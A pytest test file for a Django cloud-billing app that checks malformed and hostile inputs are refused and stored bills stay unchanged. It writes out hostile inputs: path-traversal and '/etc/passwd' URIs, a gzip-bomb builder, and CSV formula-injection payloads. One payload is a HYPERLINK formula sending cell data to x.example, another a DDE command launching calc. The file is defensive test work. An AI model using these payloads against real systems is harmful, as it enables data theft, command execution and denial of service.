"""Bills inputs that used to break or mislead: each is refused with the field
and the value (or stored and flagged), the run never stays "running", and a
bill already stored is unchanged."""

from __future__ import annotations

import csv
import gzip
import html
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from costapp.costs import services
from costapp.costs.tasks import focus_import_task
from costapp.ingest import ingest_run_create
from costapp.models import BillingPeriodSource, CostLine, IngestRun
from costapp.sources.base import Window
from costapp.tasks import ingest_run_task, ingest_runs_queue
from tests.costs.ce_emulator import CostExplorerEmulator, Line
from tests.costs.conftest import ACCOUNT, cost_lines, utc
from tests.costs.test_focus import SAMPLE, import_file, sample_rows, write_csv
from tests.support.users import user_in

pytestmark = [pytest.mark.django_db, pytest.mark.integration]
# Full-width digits: str.isdigit() is true for them.
FULL_WIDTH = "".join(chr(0xFF10 + int(c)) for c in "111122223333")
FULL_WIDTH_SUB = "".join(chr(0xFF10 + int(c)) for c in "123456789012")
D = Decimal


@pytest.fixture
def stored() -> list[tuple[Any, ...]]:
    """A bill already in the database: the sample FOCUS file."""
    run = import_file(str(SAMPLE))
    assert run.status == IngestRun.SUCCEEDED, run.error
    return cost_lines()


@pytest.fixture
def user(client: Client) -> User:
    person = user_in("lead", "tech lead", "admin", password="pw")
    client.force_login(person)
    return person


def with_cell(tmp_path: Path, row: int, column: str, value: str) -> Path:
    rows = sample_rows()
    rows[row][column] = value
    return write_csv(tmp_path / "bad.csv", rows)


# -- FOCUS values -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("1e309", "is too large"),
        ("1e30", "is too large"),
        ("NaN", "is not a finite number"),
        ("Infinity", "is not a finite number"),
        ("0.0000000000001", "has more than 12 decimal places"),
    ],
)
def test_a_billed_cost_the_bill_cannot_hold_is_refused_with_file_row_column_value(
    stored: list[tuple[Any, ...]], tmp_path: Path, value: str, reason: str
) -> None:
    run = import_file(str(with_cell(tmp_path, 7, "BilledCost", value)))
    assert run.status == IngestRun.FAILED
    assert f"bad.csv row 8, column BilledCost: {value!r} {reason}" in run.error
    assert cost_lines() == stored


def test_a_line_above_the_plausibility_threshold_is_imported_and_flagged(
    client: Client, user: User, settings: Any, tmp_path: Path
) -> None:
    settings.COSTAPP_BILL_REVIEW_THRESHOLD = 10_000_000
    rows = sample_rows()
    rows[3]["BilledCost"] = rows[3]["EffectiveCost"] = "12000000.50"
    rows[4]["BilledCost"] = rows[4]["EffectiveCost"] = "9999999.99"
    run = import_file(str(write_csv(tmp_path / "upfront.csv", rows)))
    assert run.status == IngestRun.SUCCEEDED, run.error
    flagged = CostLine.objects.filter(needs_review=True)
    assert [line.billed_cost for line in flagged] == [D("12000000.50")]
    assert CostLine.objects.filter(billed_cost=D("9999999.99"), needs_review=False)
    page = client.get("/costs/?start=2024-09-01&end=2024-10-01")
    assert page.status_code == 200
    assert b"1 to review" in page.content
    assert b"lines to review" in page.content


def test_the_copy_path_flags_the_same_lines_as_the_orm_path(settings: Any) -> None:
    from costapp.ingest import COPY_MIN_ROWS, records_write
    from costapp.sources.base import CostRecord

    settings.COSTAPP_BILL_REVIEW_THRESHOLD = 100
    records = [
        CostRecord(
            account_id=ACCOUNT,
            period_start=utc(2025, 1, 1),
            service="EC2",
            usage_type=f"u{i}",
            amortized_cost=D(150 if i % 7 == 0 else 5),
        )
        for i in range(COPY_MIN_ROWS + 10)
    ]
    records_write(records=records, source="cost_explorer")  # COPY (PostgreSQL)
    expected = {f"u{i}" for i in range(0, COPY_MIN_ROWS + 10, 7)}
    got = set(
        CostLine.objects.filter(needs_review=True).values_list("usage_type", flat=True)
    )
    assert got == expected
    CostLine.objects.all().delete()
    records_write(records=records[:20], source="cost_explorer")  # ORM path
    got = set(
        CostLine.objects.filter(needs_review=True).values_list("usage_type", flat=True)
    )
    assert got == {"u0", "u7", "u14"}


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("ChargePeriodStart", "9999-12-31T00:00:00Z", "is outside the supported range"),
        ("BillingPeriodEnd", "9999-12-31T23:00:00-05:00", "outside the supported"),
        ("Tags", "[" * 5000 + "]" * 5000, "is nested 5000 levels deep; at most 20"),
        ("Tags", '{"application": {"name": "chat"}}', "holds a nested value"),
        ("Tags", '["application"]', "is not a JSON object"),
        ("SubAccountId", "1234\x005678", "contains a NUL byte"),
        ("SubAccountId", FULL_WIDTH_SUB, "is not an account id"),
        ("ServiceName", "EC2\x00", "contains a NUL byte"),
    ],
)
def test_a_focus_value_that_used_to_crash_or_cut_short_is_refused_and_the_run_ends(
    stored: list[tuple[Any, ...]],
    tmp_path: Path,
    column: str,
    value: str,
    expected: str,
) -> None:
    run = import_file(str(with_cell(tmp_path, 11, column, value)))
    assert run.status == IngestRun.FAILED
    assert f"bad.csv row 12, column {column}: {value[:20]!r}"[:40] in run.error
    assert expected in run.error
    assert cost_lines() == stored
    assert not IngestRun.objects.filter(status=IngestRun.RUNNING).exists()


def test_an_unexpected_crash_still_marks_the_run_failed_with_the_message(
    stored: list[tuple[Any, ...]], monkeypatch: pytest.MonkeyPatch
) -> None:
    def boom(period: object) -> object:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(services, "period_batch", boom)
    run = ingest_run_create(
        source="focus",
        window=Window(utc(2024, 9, 1), utc(2024, 10, 1)),
        params={"uri": str(SAMPLE)},
    )
    with pytest.raises(RuntimeError):
        services.focus_import_execute(run=run, trusted=True)
    run.refresh_from_db()
    assert run.status == IngestRun.FAILED
    assert run.error == "RuntimeError: disk on fire"
    assert cost_lines() == stored


# -- where FOCUS files come from ----------------------------------------------


def test_the_form_never_opens_a_server_path_or_a_bucket_not_allowed(
    client: Client, user: User, settings: Any, stored: list[tuple[Any, ...]]
) -> None:
    settings.COSTAPP_FOCUS_S3_PREFIXES = ["s3://exports/focus/"]
    for uri, words in (
        (str(SAMPLE.resolve()), b"only s3://bucket/key URIs"),
        ("../../tests/costs/fixtures/x.csv", b"only s3://bucket/key URIs"),
        ("/no/such/file.csv", b"only s3://bucket/key URIs"),
        ("s3://other-bucket/focus/a.csv", b"not under an S3 prefix allowed"),
        ("s3://exports/focus-evil/a.csv", b"not under an S3 prefix allowed"),
        ("s3://exports/focus/../secret/a.csv", b"only s3://bucket/key URIs"),
    ):
        page = client.post("/costs/focus/", {"uri": uri})
        assert page.status_code == 200
        assert words in page.content, uri
        # the same answer whether the file exists or not
        assert b"no such file" not in page.content
    assert IngestRun.objects.count() == 1  # the fixture's import only
    assert cost_lines() == stored
    with pytest.raises(services.BillsError, match=r"uri='/etc/passwd\.csv'"):
        services.focus_import_create(uri="/etc/passwd.csv")


def test_a_stored_run_naming_a_server_path_is_refused_by_the_worker(
    stored: list[tuple[Any, ...]],
) -> None:
    run = ingest_run_create(
        source="focus",
        window=Window(utc(2024, 9, 1), utc(2024, 10, 1)),
        params={"uri": str(SAMPLE)},
    )
    assert focus_import_task(run.pk) == IngestRun.FAILED
    run.refresh_from_db()
    assert "only s3://bucket/key URIs" in run.error
    assert cost_lines() == stored


def test_an_allowed_s3_prefix_imports_from_the_form(
    s3: Any,
    client: Client,
    user: User,
    settings: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    settings.COSTAPP_FOCUS_S3_PREFIXES = ["s3://exports/focus/"]
    s3.upload_file(str(SAMPLE), "exports", "focus/2024-09/part-0.csv")
    with django_capture_on_commit_callbacks(execute=True):
        page = client.post(
            "/costs/focus/", {"uri": "s3://exports/focus/2024-09/part-0.csv"}
        )
    assert page.status_code == 302
    run = IngestRun.objects.get()
    assert run.status == IngestRun.SUCCEEDED, run.error
    assert CostLine.objects.count() > 0


def test_a_300_character_file_name_is_refused_naming_field_and_value(
    client: Client, user: User, settings: Any, tmp_path: Path, stored: Any
) -> None:
    settings.COSTAPP_UPLOAD_DIR = tmp_path
    name = "a" * 296 + ".csv"
    page = client.post(
        "/costs/focus/", {"file": SimpleUploadedFile(name, SAMPLE.read_bytes())}
    )
    assert page.status_code == 200
    assert b"file=&#x27;aaaa" in page.content, page.content.decode()[-1500:]
    # Django keeps at most 255 characters of a browser's file name
    assert b"255 characters long; at most 200" in page.content
    assert IngestRun.objects.count() == 1 and list(tmp_path.iterdir()) == []
    assert cost_lines() == stored


def test_an_upload_is_cut_off_at_the_limit_while_it_streams(
    client: Client,
    user: User,
    settings: Any,
    tmp_path: Path,
    monkeypatch: Any,
    stored: list[tuple[Any, ...]],
) -> None:
    from costapp.costs import uploads

    settings.COSTAPP_UPLOAD_DIR = tmp_path
    settings.COSTAPP_UPLOAD_MAX_BYTES = 4096
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # spill to disk past 1 kB
    received: list[int] = []
    original = uploads.CappedUploadHandler.receive_data_chunk

    def spy(self: Any, raw_data: bytes, start: int) -> bytes | None:
        received.append(start + len(raw_data))
        return original(self, raw_data, start)

    monkeypatch.setattr(uploads.CappedUploadHandler, "receive_data_chunk", spy)
    monkeypatch.setattr(uploads.CappedUploadHandler, "chunk_size", 1024)
    monkeypatch.setattr(uploads, "OVERHEAD_BYTES", 10 * 1024 * 1024)
    big = SimpleUploadedFile("big.csv", b"x" * 200_000)
    page = client.post("/costs/focus/", {"file": big})
    assert page.status_code == 200
    assert b"file=&#x27;big.csv&#x27;: larger than the upload limit" in page.content
    assert b"4,096 bytes (COSTAPP_UPLOAD_MAX_BYTES)" in page.content
    # it stopped reading at the limit: 5 chunks of 1 kB, not 196
    assert max(received) <= 4096 + 1024 and len(received) <= 5
    assert IngestRun.objects.count() == 1  # the fixture's import only
    assert list(tmp_path.iterdir()) == [] and cost_lines() == stored
    # a declared length over the limit is refused before any byte is read
    monkeypatch.setattr(uploads, "OVERHEAD_BYTES", 0)
    received.clear()
    page = client.post(
        "/costs/focus/", {"file": SimpleUploadedFile("b.csv", b"y" * 9000)}
    )
    assert b"the request is" in page.content and received == []


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("bill.csv", PNG, "a PNG image, not CSV text"),
        ("bill.csv.gz", PNG, "a PNG image, not a gzip file"),
        ("bill.parquet", b"id,cost\n1,2\n", "not a Parquet file, as its name says"),
        ("bill.csv", b"id,cost\n\x00\x01", "binary data, not CSV text"),
        ("bill.csv", b"id,\xe9t\xe9,cost\n" * 20, "not UTF-8 text (byte 3)"),
    ],
)
def test_an_upload_whose_bytes_are_not_what_its_name_says_is_refused_by_type(
    client: Client, user: User, settings: Any, tmp_path: Path, stored: Any,
    name: str, content: bytes, said: str,
) -> None:  # fmt: skip
    settings.COSTAPP_UPLOAD_DIR = tmp_path
    page = client.post("/costs/focus/", {"file": SimpleUploadedFile(name, content)})
    assert page.status_code == 200
    text = html.unescape(page.content.decode())
    assert f"file={name!r}: {said}" in text
    assert "codec" not in text
    assert IngestRun.objects.count() == 1 and list(tmp_path.iterdir()) == []
    assert cost_lines() == stored


def gzip_bomb(path: Path, inflated: int) -> Path:
    """A valid FOCUS CSV: the sample's first row, repeated."""
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(sample_rows()[0]))
    writer.writeheader()
    header, row = text.getvalue(), ""
    text = io.StringIO()
    csv.DictWriter(text, fieldnames=list(sample_rows()[0])).writerow(sample_rows()[0])
    row = text.getvalue()
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(header.encode())
        block = (row * (1 << 20 // len(row) + 1)).encode()
        written = 0
        while written < inflated:
            out.write(block)
            written += len(block)
    return path


def test_a_small_gzip_that_inflates_to_200_mib_is_refused(
    stored: list[tuple[Any, ...]], tmp_path: Path
) -> None:
    bomb = gzip_bomb(tmp_path / "bomb.csv.gz", 200 << 20)
    assert bomb.stat().st_size < 1 << 20  # about 200 kB
    run = import_file(str(bomb))
    assert run.status == IngestRun.FAILED
    assert "bomb.csv.gz: decompresses to more than" in run.error
    assert "COSTAPP_FOCUS_MAX_DECOMPRESSED_BYTES" in run.error
    assert cost_lines() == stored


def test_a_gzip_of_the_sample_still_imports(tmp_path: Path) -> None:
    packed = tmp_path / "sample.csv.gz"
    packed.write_bytes(gzip.compress(SAMPLE.read_bytes()))
    run = import_file(str(packed))
    assert run.status == IngestRun.SUCCEEDED, run.error
    assert CostLine.objects.count() > 0


@pytest.mark.parametrize("good", [True, False])
def test_the_task_deletes_the_upload_whatever_the_outcome(
    client: Client,
    user: User,
    settings: Any,
    tmp_path: Path,
    django_capture_on_commit_callbacks: Any,
    good: bool,
) -> None:
    settings.COSTAPP_UPLOAD_DIR = tmp_path
    content = SAMPLE.read_bytes() if good else b"not,focus\n1,2\n"
    seen: list[Path] = []
    original = services.focus_import_execute

    def watch(**kwargs: Any) -> IngestRun:
        seen.extend(tmp_path.iterdir())  # the file is there while it imports
        return original(**kwargs)

    import costapp.pipeline.runs as runs

    # The one run executor calls it, for the task as for the command.
    runs.focus_import_execute = watch  # type: ignore[assignment]
    try:
        with django_capture_on_commit_callbacks(execute=True):
            page = client.post(
                "/costs/focus/", {"file": SimpleUploadedFile("sep.csv", content)}
            )
    finally:
        runs.focus_import_execute = original  # type: ignore[assignment]
    assert page.status_code == 302
    run = IngestRun.objects.get()
    assert run.status == (IngestRun.SUCCEEDED if good else IngestRun.FAILED)
    assert run.target == "sep.csv" and run.params["name"] == "sep.csv"
    assert len(seen) == 1 and seen[0].parent == tmp_path
    assert list(tmp_path.iterdir()) == []


# -- Cost Explorer edges ------------------------------------------------------


def three_months(ce: CostExplorerEmulator) -> None:
    for month in (1, 2, 3):
        for day in (3, 17):
            ce.add(Line(ACCOUNT, f"2025-{month:02d}-{day:02d}", "BoxUsage", "10.5"))


@pytest.mark.django_db(transaction=True)  # the command's own commit queues
def test_an_amount_that_is_not_a_number_names_field_value_day_and_group(
    ce: CostExplorerEmulator,
) -> None:
    three_months(ce)
    ce.raw_amounts["2025-02-17"] = "abc"
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "bills_backfill",
        "--account",
        ACCOUNT,
        "--start",
        "2025-01-01",
        "--end",
        "2025-04-01",
        stdout=out,
        stderr=err,
    )
    run = IngestRun.objects.get()
    # January was stored before February failed: partial, not failed.
    assert run.status == IngestRun.PARTIAL
    assert "Amount='abc' (is not a decimal number)" in run.error
    assert f"account {ACCOUNT}, day 2025-02-17, group ['BoxUsage', 'Usage']" in (
        run.error
    )
    assert f"run {run.pk} {ACCOUNT}: partial" in out.getvalue()
    assert "Traceback" not in out.getvalue() + err.getvalue()
    assert {line.period_start.month for line in CostLine.objects.all()} == {1}
    # every request made was counted, the refused month's included
    # (4 days a page: January's 31 days take 8 pages, February's 17th is on
    # its 5th page)
    assert run.api_requests == len(ce.calls) == 8 + 5
    assert run.api_cost_usd == D("0.13")


def test_the_requests_of_a_failing_month_are_counted_page_by_page(
    ce: CostExplorerEmulator,
) -> None:
    for day in range(1, 29):
        ce.add(Line(ACCOUNT, f"2025-02-{day:02d}", "BoxUsage", "1"))
    ce.page_size = 10  # three pages for February
    (run,) = services.bills_backfill_create(
        account_ids=[ACCOUNT], start=date(2025, 2, 1), end=date(2025, 3, 1)
    )
    ce.fail("DataUnavailableException", page=2, times=1)
    ingest_run_task(run.pk)
    run.refresh_from_db()
    assert run.status == IngestRun.FAILED
    assert "DataUnavailableException" in run.error
    # two good pages and the refused third: 3 made, 3 counted
    assert [c["result"] for c in ce.calls] == ["ok", "ok", "DataUnavailableException"]
    assert run.api_requests == 3 and run.api_cost_usd == D("0.03")


def test_a_failed_backfill_gives_back_its_claims_so_focus_can_import(
    ce: CostExplorerEmulator, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    ce.fail("DataUnavailableException", times=10)
    account = sample_rows()[0]["SubAccountId"]
    account12 = "000000000000"[: 12 - len(account)] + account
    assert len(account12) == 12
    (run,) = services.bills_backfill_create(
        account_ids=[account12], start=date(2024, 9, 1), end=date(2024, 10, 1)
    )
    assert BillingPeriodSource.objects.filter(account_id=account12).exists()
    with django_capture_on_commit_callbacks(execute=True):
        ingest_runs_queue([run])
    run.refresh_from_db()
    assert run.status == IngestRun.FAILED
    assert not BillingPeriodSource.objects.filter(account_id=account12).exists()
    rows = sample_rows()
    for r in rows:
        r["SubAccountId"] = account12
    imported = import_file(str(write_csv(tmp_path / "same.csv", rows)))
    assert imported.status == IngestRun.SUCCEEDED, imported.error


def test_a_partial_backfill_keeps_the_claim_of_the_month_it_stored(
    ce: CostExplorerEmulator,
) -> None:
    three_months(ce)
    ce.raw_amounts["2025-02-03"] = "abc"
    (run,) = services.bills_backfill_create(
        account_ids=[ACCOUNT], start=date(2025, 1, 1), end=date(2025, 4, 1)
    )
    ingest_run_task(run.pk)
    run.refresh_from_db()
    assert run.status == IngestRun.PARTIAL
    kept = BillingPeriodSource.objects.filter(account_id=ACCOUNT)
    assert [c.billing_period for c in kept] == [date(2025, 1, 1)]


# -- dates --------------------------------------------------------------------


def test_a_date_out_of_range_on_the_bill_pages_is_a_message_naming_field_and_value(
    client: Client, user: User, stored: list[tuple[Any, ...]]
) -> None:
    for url in ("/costs/", "/costs/reconciliation/"):
        for query, words in (
            ("end=0001-01-01", "end=&#x27;0001-01-01&#x27;: is outside the supported"),
            ("start=9999-12-31", "start=&#x27;9999-12-31&#x27;: is outside"),
            ("end=2026-13-45", "end=&#x27;2026-13-45&#x27;: is not a date"),
            ("basis=%00", "basis="),
        ):
            page = client.get(f"{url}?{query}")
            assert page.status_code == 200, (url, query)
            assert words.encode() in page.content, (url, query)
            assert b"showing the default window" in page.content
    export = client.get("/costs/export.csv?end=0001-01-01")
    assert export.status_code == 400
    assert b"end='0001-01-01': is outside the supported range" in export.content
    assert cost_lines() == stored


def test_after_a_date_error_the_form_shows_the_window_the_page_shows(
    client: Client, user: User
) -> None:
    from costapp.costs.forms import default_window

    page = client.get("/costs/?start=2024-09-01&end=0001-01-01")
    window = default_window()
    text = page.content.decode()
    assert f"showing the default window {window['start']} to {window['end']}" in text
    assert f'value="{window["start"]:%Y-%m-%d}"' in text
    assert f'value="{window["end"]:%Y-%m-%d}"' in text
    assert 'value="0001-01-01"' not in text and 'value="2024-09-01"' not in text


def test_a_backfill_ending_9999_12_31_is_refused(client: Client, user: User) -> None:
    page = client.post(
        "/costs/backfill/",
        {
            "accounts": ACCOUNT,
            "start": "2025-01-01",
            "end": "9999-12-31",
            "granularity": "DAILY",
            "action": "start",
        },
    )
    assert page.status_code == 200
    assert b"end=&#x27;9999-12-31&#x27;: is outside the supported range" in page.content
    assert IngestRun.objects.count() == 0
    with pytest.raises(services.BillsError, match=r"end='9999-12-31'"):
        services.bills_backfill_create(
            account_ids=[ACCOUNT], start=date(2025, 1, 1), end=date(9999, 12, 31)
        )
    page = client.post(
        "/costs/backfill/",
        {
            "accounts": FULL_WIDTH,
            "start": "2025-01-01",
            "end": "2025-02-01",
            "granularity": "DAILY",
        },
    )
    assert b"accounts=&#x27;\xef\xbc\x91" in page.content
    assert b"is not a 12-digit AWS account id" in page.content


# -- CSV exports ----------------------------------------------------------------

EVIL = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-A1",
]


def test_the_bill_export_neutralises_formulas_and_keeps_numbers(
    client: Client, user: User
) -> None:
    for i, account in enumerate(EVIL):
        CostLine.objects.create(
            source="focus",
            account_id=account[:32],
            period_start=utc(2025, 3, 10),
            service="EC2",
            usage_type=f"u{i}",
            amortized_cost=D("-1.5"),
            fetched_at=utc(2025, 3, 11),
        )
    response = client.get("/costs/export.csv?start=2025-03-10&end=2025-03-11")
    assert response.status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))  # type: ignore[attr-defined]
    )
    accounts = {r["account_id"] for r in rows}
    assert accounts == {"'" + a[:32] for a in EVIL}
    # amounts at stored precision, numeric (no quote): -1.5 stays -1.5
    assert {D(r["bill_amount"]) for r in rows} == {D("-1.5")}
    assert all(not r["bill_amount"].startswith("'") for r in rows)


def test_the_scenario_export_neutralises_a_formula_in_the_name() -> None:
    from costapp.capacity.services import scenario_csv_export
    from costapp.models import Scenario

    scenario = Scenario(
        name=EVIL[0],
        result={
            "columns": [
                {"label": "-A1", "feasible": True, "metrics": {}, "scenario": {}}
            ]
        },
    )
    rows = list(csv.reader(io.StringIO(scenario_csv_export(scenario))))
    assert rows[1][0] == "'" + EVIL[0]
    assert rows[1][1] == "'-A1"


def test_a_cost_explorer_float_residue_is_rounded_to_twelve_places_not_refused(
    ce: CostExplorerEmulator,
) -> None:
    ce.add(Line(ACCOUNT, "2025-01-03", "BoxUsage", "1"))
    ce.raw_amounts["2025-01-03"] = "3.5527136788E-15"
    (run,) = services.bills_backfill_create(
        account_ids=[ACCOUNT], start=date(2025, 1, 1), end=date(2025, 2, 1)
    )
    ingest_run_task(run.pk)
    run.refresh_from_db()
    assert run.status == IngestRun.SUCCEEDED, run.error
    assert CostLine.objects.get().amortized_cost == 0


def test_the_release_command_switches_a_month_to_the_other_source(
    ce: CostExplorerEmulator, tmp_path: Path
) -> None:
    from django.core.management.base import CommandError

    ce.add(Line(ACCOUNT, "2024-09-03", "BoxUsage", "2.5"))
    (run,) = services.bills_backfill_create(
        account_ids=[ACCOUNT], start=date(2024, 9, 1), end=date(2024, 10, 1)
    )
    ingest_run_task(run.pk)
    rows = sample_rows()
    for r in rows:
        r["SubAccountId"] = ACCOUNT
    focus_file = write_csv(tmp_path / "switch.csv", rows)
    assert import_file(str(focus_file)).status == IngestRun.FAILED  # claimed by CE
    out = io.StringIO()
    call_command(
        "bills_period_release", "--account", ACCOUNT, "--month", "2024-09", stdout=out
    )
    assert "would release" in out.getvalue() and CostLine.objects.count() == 1
    call_command(
        "bills_period_release",
        "--account",
        ACCOUNT,
        "--month",
        "2024-09",
        "--yes",
        stdout=out,
    )
    assert "1 line(s) deleted" in out.getvalue()
    assert import_file(str(focus_file)).status == IngestRun.SUCCEEDED
    assert set(CostLine.objects.values_list("source", flat=True)) == {"focus"}
    with pytest.raises(CommandError, match="month='9999-99'"):
        call_command("bills_period_release", "--account", ACCOUNT, "--month", "9999-99")
